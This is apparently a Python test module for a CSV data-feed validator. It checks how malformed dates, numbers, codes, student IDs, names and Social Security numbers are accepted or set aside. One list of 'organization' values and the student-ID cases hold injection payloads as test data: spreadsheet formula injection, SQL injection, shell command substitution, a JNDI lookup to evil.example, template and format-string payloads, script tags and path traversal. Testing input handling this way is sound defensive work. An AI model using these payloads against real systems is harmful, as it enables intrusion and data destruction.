"""Values that are not what their column says."""

from hostile_package import Expected, Group, Package, accepted, aside

group = Group("values")
case = group.case


def _value(name: str, column: str, value: str, expected: Expected) -> None:
    group.add(name, expected, lambda package: package.set(column, value))


def _bad(kind: str, column: str, value: str, suffix: str = "TYPE") -> None:
    _value(f"{kind}: {value[:24]}", column, value, aside(1, f"EXP-{column}-{suffix}"))


def _good(kind: str, column: str, value: str) -> None:
    _value(f"{kind}: {value[:24]}", column, value, accepted())


for _date in (
    "0000-00-00",
    "2026-02-30",
    "1900-02-29",
    "2026-13-01",
    "2026-1-5",
    "20260105",
    "01/05/2026",
    "05.01.2026",
    "05-JAN-26",
    "Jan 5, 2026",
    "45000",
    "2026-01-05T00:00:00",
    "2026-01-05 00:00:00.000",
    "10000-01-01",
    "-0001-01-01",
    "２０２６-01-05",
    "٢٠٢٦-٠١-٠٥",
    "2026–01–05",
    "today",
):
    _bad("no date", "start_date", _date)

for _date in ("2024-02-29", " 2026-01-05 ", "\u00a02026-01-05\u00a0"):
    _good("a date", "start_date", _date)

for _number in (
    "1e3",
    "1.2E+01",
    "1e400",
    "NaN",
    "Infinity",
    "-inf",
    "12,5",
    "1,234.50",
    "1 234.50",
    "$12.50",
    "12.50-",
    "(12.50)",
    "--5",
    "0x10",
    "12.505",
    "9999999999",
    "١٢",
    "１２",
    "½",
    "12.",
    "1_000",
    "twelve",
    "9" * 400,
):
    _bad("no number", "hours", _number)

for _number in ("-0", "+5", ".5", "0012.500", "12.5000000000000000000", "3", " 7 "):
    _good("a number", "hours", _number)

for _stamp in (
    "2026-08-30",
    "2026-08-30 08:00:00",
    "2026-08-30T08:00:00",
    "2026-08-30T25:00:00Z",
    "2026-08-30T08:00:00+99:00",
    "2026-08-30T08:00-05:00",
    "1788076800",
):
    _bad("no instant", "record_updated_at", _stamp)

for _stamp in ("2026-08-30t08:00:00z", "2026-08-30T08:00:00.123456789-05:00"):
    _good("an instant", "record_updated_at", _stamp)

for _code in ("1", "service", "NULL", "S V L", "SVL;GLB", "ＳＶＬ"):
    _bad("no code", "experience_type", _code, "CODE")

for _code in ("svl", " SVL ", "Svl\u3000"):
    _good("a code", "experience_type", _code)

for _empty in ("", "   ", "\u00a0\u2003"):
    _value(
        f"a required text that is {len(_empty)} spaces",
        "title",
        _empty,
        aside(1, "EXP-title-REQUIRED"),
    )

for _id in (
    "1.23E+08",
    '="A0007"',
    "a0007",
    "А0007",
    "A0007\u200b",
    "\u202eA0007",
    "A 0007",
    "7",
    "99999",
    "*",
    "A0007' OR '1'='1",
):
    _value(f"a student nobody knows: {_id}", "student_id", _id, aside(1, "EXP-Q04"))

_value(
    "a student id that is too long",
    "student_id",
    "A0007" * 9,
    aside(1, "EXP-student_id-LENGTH"),
)
_value(
    "a student id padded like CHAR(20)", "student_id", "A0007" + " " * 15, accepted()
)
_value("a student id with a no-break space", "student_id", "A0007\u00a0", accepted())
_value("all nines as hours", "hours", "999999.99", aside(1, "EXP-Q02"))
_value("161 letters where 160 fit", "title", "x" * 161, aside(1, "EXP-title-LENGTH"))
_value("160 four-byte characters where 160 fit", "title", "😀" * 160, accepted())
_value("a field of 900 KB", "title", "x" * 900_000, aside(1, "EXP-title-LENGTH"))
_value("a section nobody knows", "section_id", "999", aside(1, "EXP-Q03"))

for _text in (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "Robert'); DROP TABLE experience;--",
    "$(reboot)`reboot`",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}{% raw %}",
    "%s%s%n%x",
    "<script>alert(1)</script>",
    "[red]bold[/] :smile:",
    "../../../etc/passwd",
    "file:///etc/passwd",
    '{"a": [1, null]}',
    "\\x00\\u0000\\n",
    "NULL",
    "undefined",
    "Ünïcödé 名前 имя اسم",
    "👩\u200d🎓 graduation",
    "Zalgo \u0300\u0301\u0302\u0303\u0304\u0305\u0306",
    "e\u0301 in two characters",
    "a\u200bz zero width",
    "\u202egnp.exe from right to left",
    "שלום אל العربية",
    "\ufdfa one glyph, eighteen letters",
    "\U000e0041 a tag character",
    "\ue000 private use",
    "\uffff not a character",
):
    _value(f"a text like any other: {_text[:28]!r}", "organization", _text, accepted())


@case("dates in two formats in one column", aside(3, "EXP-start_date-TYPE"))
def _(package: Package) -> None:
    for row in (3, 4, 5):
        package.set("start_date", "02/01/2026", row)


@case(
    "Excel guards around every id, as RFC 4180 quotes them",
    Expected("held", "held", frozenset({"EXP-Q04", "F15"})),
)
def _(package: Package) -> None:
    for row in package.state["experience"]:
        row["student_id"] = f'="{row["student_id"]}"'


@case(
    "Excel guards around every id, unquoted",
    Expected("held", "held", frozenset({"F20", "F15"})),
)
def _(package: Package) -> None:
    lines = package.lines()
    package.replace_lines(
        lines[:1] + [b'="' + line.replace(b",", b'",', 1) for line in lines[1:]]
    )


@case(
    "a column shifted by one in every row",
    Expected("held", "held", frozenset({"F20", "F15"})),
)
def _(package: Package) -> None:
    lines = package.lines()
    package.replace_lines(lines[:1] + [b"," + line for line in lines[1:]])


@case("a row sent twice", accepted("F13", collapsed=1))
def _(package: Package) -> None:
    package.state["experience"].append(dict(package.state["experience"][5]))


@case("two rows of one key that differ and cannot be ordered", aside(2, "F14"))
def _(package: Package) -> None:
    twin = dict(package.state["experience"][5], title="Another")
    package.state["experience"].append(twin)


@case("two rows of one key, one of them later", accepted("F14", collapsed=1))
def _(package: Package) -> None:
    twin = dict(
        package.state["experience"][5],
        title="Another",
        record_updated_at="2026-08-31T08:00:00-05:00",
    )
    package.state["experience"].append(twin)


@case("a row that wants to delete in a snapshot", aside(1, "F24"))
def _(package: Package) -> None:
    lines = [line.rstrip(b"\n") for line in package.lines()]
    ops = [b",_op", *[b"," for _ in lines[1:]]]
    ops[7] = b",D"
    package.replace(b"".join(s + op + b"\n" for s, op in zip(lines, ops, strict=True)))


@case("an operation nobody knows", aside(1, "F24"))
def _(package: Package) -> None:
    lines = [line.rstrip(b"\n") for line in package.lines()]
    ops = [b",_op", *[b",U" for _ in lines[1:]]]
    ops[7] = b",X"
    package.replace(b"".join(s + op + b"\n" for s, op in zip(lines, ops, strict=True)))


def _person(name: str, column: str, value: str, expected: Expected) -> None:
    def build(package: Package) -> None:
        package.feed = "person"
        package.set(column, value)

    group.add(name, expected, build)


_person(
    "a birth date of 1900-01-01",
    "birth_date",
    "1900-01-01",
    aside(1, "PER-Q01", "PER-Q02"),
)
_person(
    "a birth date in the future (Oracle's 45)",
    "birth_date",
    "2045-01-01",
    aside(1, "PER-Q01"),
)
_person(
    "a birth date of month and day unknown",
    "birth_date",
    "2000-99-99",
    aside(1, "PER-birth_date-TYPE"),
)
_person(
    "a year of 20 digits",
    "high_school_grad_year",
    "9" * 20,
    aside(1, "PER-high_school_grad_year-TYPE"),
)
_person(
    "a year with a decimal point",
    "high_school_grad_year",
    "2018.0",
    aside(1, "PER-high_school_grad_year-TYPE"),
)
_person("a state by its full name", "state", "Alabama", aside(1, "PER-state-LENGTH"))
_person("a name of one letter", "last_name", "O", accepted())
_person(
    "a name with an apostrophe and accents", "last_name", "Núñez-O'Neal", accepted()
)
_person("a name with a typographic apostrophe", "last_name", "O’Neal", accepted())
_person("a name in Hebrew", "last_name", "כהן", accepted())
_person("a name with a soft hyphen", "last_name", "Müller\u00adLee", accepted())
_person("a name that says NULL", "last_name", "Null", accepted())
_person("a name of homoglyphs", "last_name", "Ѕmіth", accepted())
_person("a name that is empty", "last_name", "", aside(1, "PER-last_name-REQUIRED"))
_person("a suffix nobody knows", "suffix", "Esq.", aside(1, "PER-suffix-CODE"))


def _ssn(name: str, value: str, expected: Expected) -> None:
    def build(package: Package) -> None:
        package.feed = "person_identifier"
        package.set("id_value", value)

    group.add(name, expected, build)


_ssn("a Social Security number of zeros", "000000000", aside(1, "PID-Q01"))
_ssn(
    "a Social Security number that lost its leading zero",
    "12345678",
    aside(1, "PID-Q01"),
)
_ssn("a Social Security number in scientific notation", "4.12E+08", aside(1, "PID-Q01"))
_ssn("a Social Security number of nines", "999999999", aside(1, "PID-Q03"))
